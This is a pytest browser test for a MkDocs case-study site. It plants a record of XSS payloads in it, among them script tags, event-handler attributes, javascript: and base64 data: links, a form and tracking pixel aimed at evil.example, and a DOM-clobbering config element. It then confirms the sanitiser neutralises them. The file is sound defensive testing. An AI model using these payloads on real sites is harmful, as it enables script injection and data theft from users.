"""Hostile case records in a real build and a real browser.

A copy of the project gets one extra record, ``cases/xss-payload-test.yaml``, with
script-running payloads in every narrative field and in the plain-text fields, in all
three languages. The build must succeed (payloads are text, not errors). Then Debian's
chromium opens the case in each language, with every request to another host blocked
and recorded, clicks every link and button of the article, hovers over everything, and
checks that nothing ran, nothing left the machine, and the plain text is still there.
"""

from __future__ import annotations

from pathlib import Path
from urllib.parse import urlsplit

import pytest
import yaml

from browser import outside_requests, search_answered, search_ready, serve, settle
from conftest import ROOT, copy_project, mkdocs_build

pytestmark = pytest.mark.browser

CASE_ID = "xss-payload-test"
LANGS = {"en": "", "zh": "zh/", "vi": "vi/"}

# Markdown for background, reform and results: every way a contributor could try to run
# code, load something from another host, or send the reader elsewhere, that validation
# lets through (attribute lists, unclosed HTML and the like are refused before a build:
# tests/test_hostile.py).
NARRATIVE = """\
Raw script: <script>window.__xss = 1; alert("script")</script> end of raw script.

<img src="x" onerror="window.__xss = 2; alert('img')">

<svg onload="window.__xss = 3"><circle r="5" onmouseover="window.__xss = 4"/></svg>

<iframe src="https://example.org/"></iframe>

A markdown link [click](javascript:window.__xss=1) and [upper](JaVaScRiPt:window.__xss=1) and
[data](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==).

<p onclick="window.__xss=1" onmouseover="window.__xss=1" style="position:fixed;inset:0">A paragraph given attributes.</p>

<b onmouseenter="window.__xss=1" tabindex="0">Bold</b> and <em onfocus="window.__xss=1">hover me</em>.

<a href="https://evil.example" >an outside link</a> and <a href="javascript&#58;window.__xss=1">entity link</a>.

<form action="https://evil.example/collect" method="post"><input name="q" value="x" autofocus
onfocus="window.__xss=1"><button type="submit" formaction="javascript:window.__xss=1">send</button></form>

<details open ontoggle="window.__xss=1"><summary>More</summary>Hidden text.</details>

<style>.md-content { display: none }</style><object data="https://evil.example/x.swf"></object>

<p style="background:url(https://evil.example/pixel.png)" onclick="window.__xss=1">Styled paragraph.</p>
"""

# For the plain-text fields: must be shown exactly as written, and never be markup.
PLAIN = '<script>window.__xss=1</script> "quoted" & [x](javascript:window.__xss=1) <img src=x onerror=window.__xss=1>'


def valid_cases_only(project: Path) -> None:
    """Drop any record another session is still writing in cases/ (the copy only)."""
    from casebook.records.load import load_case
    from casebook.records.vocabulary import load_vocabulary

    vocabulary, problems = load_vocabulary(project / "cases" / "vocabulary", project)
    assert problems == []
    for path in sorted((project / "cases").glob("*.y*ml")):
        case, found = load_case(path, vocabulary, Path(path.name))
        if case is None or found:
            path.unlink()


def template_record() -> dict:
    """A real record with figures and text in every language."""
    for path in sorted((ROOT / "cases").glob("*.yaml")):
        data = yaml.safe_load(path.read_text(encoding="utf-8"))
        if (isinstance(data, dict) and data.get("figures")
                and all(lang in data.get("text", {}) for lang in LANGS)):
            return data
    raise AssertionError("no real record with figures and all three languages")


def payload_record(narrative: str = NARRATIVE, plain: str = PLAIN) -> dict:
    data = template_record()
    data["id"] = CASE_ID
    for lang in LANGS:
        # (Vietnamese fields keep one marked word: unmarked Vietnamese is a validation error)
        plain_here = f"tiếng Việt {plain}" if lang == "vi" else plain
        text = data["text"][lang]
        text["status"] = "draft" if lang != "en" else "reviewed"
        text["title"] = f"Title {lang} {plain_here}"
        text["summary"] = f"Summary {lang} {plain_here}"
        for field in ("background", "reform", "results"):
            text[field] = narrative if lang != "vi" else "Tiếng Việt.\n\n" + narrative
        data["organization"][lang] = f"Organization {lang} {plain_here}"
        for figure in data["figures"]:
            figure["label"][lang] = f"Label {lang} {plain_here}"
    data["sources"][0]["title"] = f"Source {plain}"
    return data


KEPT_CASES = 3  # beside the payload: lists, themes and the pack hold other cases too


def build_with(tmp: Path, record: dict, before_build=None) -> Path:
    """The payload ``record`` built with a few seed cases (a site of the pages inspected)."""
    project = copy_project(tmp / "project")
    valid_cases_only(project)
    for path in sorted((project / "cases").glob("*.yaml"))[KEPT_CASES:]:
        path.unlink()
    if before_build is not None:  # (e.g. hostile vocabulary labels: test_hostile_browser.py)
        before_build(project)
    (project / "cases" / f"{CASE_ID}.yaml").write_text(
        yaml.safe_dump(record, allow_unicode=True, sort_keys=False), encoding="utf-8")
    result = mkdocs_build(project)
    assert result.returncode == 0, "payloads are text, the build must not fail:\n" + result.stderr[-4000:]
    return project / "site"


@pytest.fixture(scope="module")
def payload_site(tmp_path_factory) -> Path:
    return build_with(tmp_path_factory.mktemp("xss"), payload_record())


@pytest.fixture(scope="module")
def payload_url(payload_site):
    with serve(payload_site) as url:
        yield url


class Watch:
    """A fresh tab that records outside requests, dialogs, popups and page errors."""

    def __init__(self, chromium, site_url: str):
        self.context = chromium.new_context(viewport={"width": 1280, "height": 900}, accept_downloads=True)
        self.page = self.context.new_page()
        self.blocked = outside_requests(self.page, (site_url,))
        self.dialogs: list[str] = []
        self.popups: list[str] = []
        self.errors: list[str] = []
        self.page.on("dialog", lambda d: (self.dialogs.append(f"{d.type}: {d.message}"), d.dismiss()))
        self.page.on("pageerror", lambda e: self.errors.append(str(e)))
        self.context.on("page", lambda p: self.popups.append(p.url) if p is not self.page else None)

    def xss(self) -> str:
        return self.page.evaluate("typeof window.__xss === 'undefined' ? 'undefined' : String(window.__xss)")

    def close(self):
        self.context.close()


AUDIT = """() => {
  const content = document.querySelector('.md-content');
  const all = [...content.querySelectorAll('*')];
  const bad = [];
  for (const el of all) {
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase();
      const value = attr.value.replace(/[\\s\\u0000-\\u001f]/g, '').toLowerCase();
      if (name.startsWith('on')) bad.push(`${el.tagName} ${name}`);
      if (name === 'style') bad.push(`${el.tagName} style`);
      if (['href', 'src', 'action', 'formaction', 'xlink:href', 'data'].includes(name)
          && /^(javascript|data|vbscript):/.test(value)) bad.push(`${el.tagName} ${name}=${attr.value}`);
    }
  }
  // (buttons of our own: Material's copy button, the case page's print button)
  const tags = ['script', 'iframe', 'img', 'svg', 'object', 'embed', 'form', 'input',
                'button:not(.md-clipboard):not(.cb-print > button)',
                'style', 'link', 'meta', 'base', 'frame', 'video', 'audio', 'source', 'math'];
  const found = tags.flatMap(t => [...content.querySelectorAll(t)].map(el => el.outerHTML.slice(0, 120)));
  return {bad, found};
}"""


@pytest.mark.parametrize("lang", LANGS)
def test_payload_case_runs_nothing_and_loads_nothing(chromium, payload_url, lang):
    case_url = f"{payload_url}{LANGS[lang]}cases/{CASE_ID}/"
    watch = Watch(chromium, payload_url)
    page = watch.page
    try:
        response = page.goto(case_url)
        assert response is not None and response.ok
        page.wait_for_load_state("load")
        settle(page)

        # nothing dangerous is left in the article
        audit = page.evaluate(AUDIT)
        assert audit == {"bad": [], "found": []}, audit
        assert page.locator(".md-content script").count() == 0

        # the plain-text payload is there as text, where it was written
        shown = f"tiếng Việt {PLAIN}" if lang == "vi" else PLAIN
        h1 = page.locator(".md-content h1").evaluate(
            "h => [...h.childNodes].filter(n => !(n.classList && n.classList.contains('headerlink')))"
            ".map(n => n.textContent).join('')")
        assert h1.strip() == f"Title {lang} {shown}"
        assert page.locator(".md-content .cb-summary").inner_text().strip() == f"Summary {lang} {shown}"
        facts = page.locator(".md-content .cb-facts dd").all_inner_texts()
        assert f"Organization {lang} {shown}" in [f.strip() for f in facts], facts
        labels = page.locator(".md-content .cb-figure__label").all_inner_texts()
        assert labels and all(label.strip() == f"Label {lang} {shown}" for label in labels), labels
        assert f"Source {PLAIN}" in page.locator(".md-content .cb-sources li").first.inner_text()
        assert f"Title {lang} {shown}" in page.title(), "the tab title shows the text, not entities"
        description = page.locator('meta[name="description"]').get_attribute("content")
        assert description == f"Summary {lang} {shown}"
        # harmless narrative text survives the sanitiser
        text = page.locator(".md-content").text_content()
        for words in ("end of raw script", "A paragraph given attributes.", "an outside link", "Styled paragraph.",
                      "Hidden text.", "send"):
            assert words in text, words

        # hover over everything: the real mouse over each visible element (in a window as
        # tall as the page, so nothing needs scrolling), then synthetic events on all of them
        height = page.evaluate("() => document.documentElement.scrollHeight")
        page.set_viewport_size({"width": 1280, "height": min(max(height, 900), 16000)})
        centres = page.evaluate("""() => [...document.querySelectorAll('.md-content *')]
            .map(el => el.getBoundingClientRect())
            .filter(r => r.width > 0 && r.height > 0)
            .map(r => [r.left + r.width / 2, r.top + r.height / 2])""")
        assert len(centres) > 50
        for x, y in centres:
            page.mouse.move(x, y)
        page.set_viewport_size({"width": 1280, "height": 900})
        page.evaluate("""() => { for (const el of document.querySelectorAll('.md-content *')) {
            for (const type of ['mouseover', 'mouseenter', 'mousemove', 'focus', 'focusin', 'animationstart'])
              el.dispatchEvent(new Event(type, {bubbles: true}));
            if (typeof el.focus === 'function') el.focus();
        } }""")
        assert watch.xss() == "undefined"

        # every button-like element (details summaries) opens and closes
        summaries = page.locator(".md-content summary, .md-content button")
        for index in range(summaries.count()):
            summaries.nth(index).click()
            settle(page)
            summaries.nth(index).click()
        assert watch.xss() == "undefined"

        # every link: none is javascript:/data:; outside ones are left alone; the rest are clicked
        links = page.evaluate("""() => [...document.querySelectorAll('.md-content a')].map(
            a => ({raw: a.getAttribute('href'), resolved: a.href, text: a.innerText}))""")
        assert len(links) >= 10, links
        host = urlsplit(payload_url).netloc
        clicked, seen = 0, set()
        for index, link in enumerate(links):
            raw = (link["raw"] or "").strip().lower()
            assert not raw.startswith(("javascript:", "data:", "vbscript:")), link
            if link["raw"] is not None and urlsplit(link["resolved"]).netloc != host:
                assert urlsplit(link["resolved"]).scheme in ("http", "https", "mailto"), link
                continue  # leaves the site: never followed on a closed network
            if (link["raw"], link["text"]) in seen:
                continue  # the same link again (the narrative is repeated in three sections)
            seen.add((link["raw"], link["text"]))
            if page.url.split("#")[0] != case_url:  # (a link within the page leaves it loaded)
                page.goto(case_url, wait_until="domcontentloaded")
            page.evaluate("() => document.querySelectorAll('.md-content details').forEach(d => d.open = true)")
            target = page.locator(".md-content a").nth(index)
            try:
                target.click(timeout=3000)
            except Exception:  # hidden (e.g. a permalink shown on hover only): click it as a script would
                target.dispatch_event("click")
            page.wait_for_load_state("domcontentloaded")
            settle(page)
            clicked += 1
            assert watch.xss() == "undefined", (link, page.url)
            if page.url.split("#")[0] != case_url:
                assert page.url.startswith(payload_url), (link, page.url)
        assert clicked >= 10

        # search renders result text with innerHTML: the payload must stay text there too
        page.goto(case_url)
        search_answered(page, "Label")
        settle(page)
        if lang == "en":  # (the other languages' labels are in their words: "Label" may find nothing)
            page.wait_for_selector(".md-search-result__item", state="attached")
        assert page.locator(".md-search-result script, .md-search-result img, .md-search-result svg[onload]").count() == 0
        assert watch.xss() == "undefined"

        assert watch.dialogs == [], watch.dialogs
        assert watch.popups == [], watch.popups
        assert watch.blocked == [], f"requests that left 127.0.0.1: {watch.blocked}"
        assert watch.errors == [], watch.errors
    finally:
        watch.close()


CLOBBER = ('<p id="__config">{"base":"https://evil.example/","features":[],'
           '"search":"../../assets/javascripts/workers/search.js","translations":{}}</p>\n\nSome text.\n')


@pytest.fixture(scope="module")
def clobber_url(tmp_path_factory):
    site = build_with(tmp_path_factory.mktemp("clobber"), payload_record(narrative=CLOBBER, plain="plain"))
    with serve(site) as url:
        yield url


@pytest.mark.parametrize("lang", LANGS)
def test_content_cannot_replace_materials_config(chromium, clobber_url, lang):
    watch = Watch(chromium, clobber_url)
    try:
        watch.page.goto(f"{clobber_url}{LANGS[lang]}cases/{CASE_ID}/")
        # Material read its configuration (the real one: the worker it names answers)
        search_ready(watch.page)
        # (Material's own script gives code blocks ids __code_N at run time)
        ids = watch.page.evaluate("() => [...document.querySelectorAll('.md-content [id^=\"__\"]')]"
                                  ".map(e => e.id).filter(id => !id.startsWith('__code_'))")
        assert watch.blocked == [], f"requests that left 127.0.0.1: {watch.blocked}"
        assert ids == [], ids
        assert watch.errors == [], watch.errors
    finally:
        watch.close()
